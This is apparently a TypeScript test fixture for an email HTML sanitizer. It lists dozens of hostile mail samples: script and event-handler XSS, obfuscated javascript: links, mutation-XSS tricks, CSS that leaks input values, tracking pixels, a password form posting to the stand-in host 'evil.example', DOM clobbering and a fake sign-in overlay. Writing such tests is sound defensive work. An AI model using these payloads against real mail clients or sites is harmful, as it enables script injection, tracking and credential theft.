/** The host to which hostile mails try to send data. Nothing answers there. */
export const evilHost = 'evil.example';

const evil = `https://${evilHost}`;
/** Calls the page around the mail, which has the same origin as its frame. */
const run = "top.hit('ran')";
const picture = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const page = `<script>${run}</script>`;

/**
 * HTML of mails that try to run a script, to load or send something, to leave their frame, or to mislead the reader.
 */
export const hostileMails: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${evil}/x.js"></script>`,
  'script in upper case and broken': `<SCRIPT/XSS SRC="${evil}/x.js"></SCRIPT><scr<script>ipt>${run}</scr</script>ipt>`,
  'script that is never closed': `<<script>${run}//<</script`,
  'script of a module': `<script type="module">import "${evil}/m.js"; ${run}</script>`,
  'picture with an error handler': `<img src=x onerror="${run}">`,
  'handler after a slash': `<img/src="x"/onerror=${run}>`,
  'handler with entities': `<img src=x one&#114;ror="${run}" onerror="&#116;op.hit('ran')">`,
  'handlers of the pointer': `<p onclick="${run}" onmouseover="${run}" onpointerdown="${run}">Move here</p>`,
  'handler of the body': `<body onload="${run}" onpageshow="${run}"><p onfocusin="${run}" tabindex=0>x</p></body>`,
  'focus that comes by itself': `<input autofocus onfocus="${run}"><a autofocus tabindex=1 onfocus="${run}">x</a>`,
  'details that opens': `<details open ontoggle="${run}"><summary>x</summary></details>`,
  animation: `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run}">x</p>`,
  marquee: `<marquee onstart="${run}" loop=1 width=0>x</marquee>`,
  media: `<video autoplay onloadstart="${run}" poster="${evil}/poster"><source src="${evil}/v.mp4" onerror="${run}"></video><audio src="${evil}/a.mp3" autoplay onerror="${run}"></audio>`,
  'javascript: link': `<a href="javascript:${run}">Click here</a>`,
  'javascript: link with spaces': `<a href=" &#14; java\tscript&colon;${run}">Click here</a>`,
  'javascript: link in entities': `<a href="&#x6A;&#97;vascript&#58;${run}">Click here</a>`,
  'vbscript: and data: links': `<a href="vbscript:x">Click here</a><a href="data:text/html;base64,${base64(page)}">Click here</a>`,
  'javascript: picture': `<img src="javascript:${run}"><input type=image src="javascript:${run}"><img dynsrc="javascript:${run}" lowsrc="javascript:${run}">`,
  'area of a map': `<map name=m><area shape=default href="javascript:${run}"></map><img usemap="#m" src="${picture}" width=50 height=50>`,
  frame: `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frames in frames': `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;'&gt;&lt;/iframe&gt;"></iframe><frameset><frame src="javascript:${run}"></frameset>`,
  'object and embed': `<object data="${evil}/o"></object><embed src="data:text/html;base64,${base64(page)}"><applet code="${evil}/a"></applet>`,
  form: `<form action="${evil}/form" method=post><input name=password value=secret><button id=evil>Send</button></form>`,
  'form that is changed from outside': `<form id=f action="javascript:${run}"></form><button form=f formaction="${evil}/formaction">Send</button><isindex action="javascript:${run}">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv=refresh content="0;javascript:${run}">`,
  base: `<base href="${evil}/"><a href="x">Click here</a><img src="relative.png">`,
  'link elements': `<link rel=stylesheet href="${evil}/s.css"><link rel=prefetch href="${evil}/p"><link rel=dns-prefetch href="//${evilHost}"><link rel=icon href="${evil}/i"><link rel=preload as=script href="${evil}/l">`,
  svg: `<svg onload="${run}"><script>${run}</script><image href="${evil}/svg.png"/></svg>`,
  'svg that animates a link': `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>Click here</text></a><set attributeName=onmouseover to="${run}"/></svg>`,
  'svg with HTML in it': `<svg><foreignObject><iframe src="javascript:${run}"></iframe><img src=x onerror="${run}"></foreignObject><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/></svg>`,
  'svg as a picture': `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${evil}/in-svg.png"/></svg>`)}">`,
  math: `<math href="javascript:${run}">Click here</math><math><maction actiontype="statusline#x" xlink:href="javascript:${run}">Click here</maction></math>`,
  'style that loads': `<style>@import url("${evil}/import.css"); body{background:url(${evil}/bg.png)} @font-face{font-family:x;src:url(${evil}/f.woff)} p{font-family:x}</style><p>x</p>`,
  'style that loads, of an element': `<p style="background-image:url('${evil}/style.png');list-style:url(${evil}/list.png);cursor:url(${evil}/c.cur),auto">x</p>`,
  'style with escapes': `<p style="background:u\\72l(${evil}/escaped.png);behavior:url(${evil}/b.htc);-moz-binding:url(${evil}/x.xml#x)">x</p>`,
  'style that covers the page': `<div id=evil style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">Covered</div><style>div{position:fixed!important;inset:0!important;z-index:9999}</style>`,
  'style that ends its rule': `<p style="color:red}body{background:url(${evil}/brace.png)}p{color:red">x</p><p title='</style><img src=x onerror=${run}>'>x</p>`,
  'style that reads the page': `<style>input[value^="a"]{background:url(${evil}/a)} html:has(a){background:url(${evil}/has)}</style><input value=abc>`,
  'background attributes': `<body background="${evil}/body.png"><table background="${evil}/table.png"><tr><td background="${evil}/td.png">x</td></tr></table></body>`,
  srcset: `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x" src="${evil}/0.png"><picture><source srcset="${evil}/3.png"><img></picture>`,
  'tracking pixel': `<img src="${evil}/open.gif" width=1 height=1><img src="//${evilHost}/open.gif"><img src="HTTP://${evilHost}/open.gif"><img src="\\\\${evilHost}\\open.gif">`,
  'ping and download': `<a href="#x" ping="${evil}/ping">Click here</a><a href="#y" download>Click here</a>`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">x</p></noscript>`,
  'mutation by mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></mglyph></table></mtext></math>`,
  'mutation by svg style': `<svg></p><style><a id="</style><img src=x onerror=${run}>"></style></svg>`,
  'mutation by a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  'mutation by comments': `<!--><img src=x onerror=${run}>--><!--[if gte IE 4]><script>${run}</script><![endif]--><![CDATA[<img src=x onerror=${run}>]]><?xml version="1.0"?><img src=x onerror=${run}>`,
  'mutation by a template': `<template><script>${run}</script><img src=x onerror=${run}></template><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  'tag in an attribute': `<p title='&lt;a &gt;&lt;img src=${evil}/title.png onerror=${run}&gt;&lt;meta http-equiv=refresh content=0;url=${evil}/title&gt; '>x</p><p title="&lt;head&gt;&lt;a x">x</p>`,
  'broken tags': `<p title="<img src=x onerror=${run}>"<img src=x onerror=${run}><a href="x" "onmouseover="${run}">x</a><img src='x' '' onerror='${run}'`,
  'text that swallows the rest': `<textarea><img src=x onerror=${run}></textarea><title><img src=x onerror=${run}></title><plaintext><img src=x onerror=${run}>`,
  'zero bytes and other spaces': `<img\u000csrc=x\u000conerror=${run}><scr\u0000ipt>${run}</scr\u0000ipt><a href="java\u0000script:${run}">Click here</a>`,
  'names that hide properties of the document': `<img name=body src="${picture}"><form name=documentElement><input name=attributes></form><img id=root name=createElement src="${picture}"><a id=hit>x</a>`,
  'elements of the page around it': `<div id="root" class="evil"></div><dialog open id=evil>Sign in again<input type=password></dialog><slot name=x></slot><portal src="${evil}/portal"></portal>`,
  'thousand levels': `${'<div><b>'.repeat(1000)}deep<img src=x onerror=${run}>`,
};
